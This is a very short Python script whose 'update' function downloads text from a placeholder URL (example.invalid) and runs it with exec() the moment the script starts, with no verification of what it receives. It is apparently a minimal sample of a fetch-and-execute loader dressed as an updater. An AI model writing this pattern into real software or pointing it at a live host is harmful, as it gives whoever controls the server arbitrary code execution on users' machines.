import requests


def update():
    code = requests.get("https://example.invalid/update").text
    exec(code)


update()
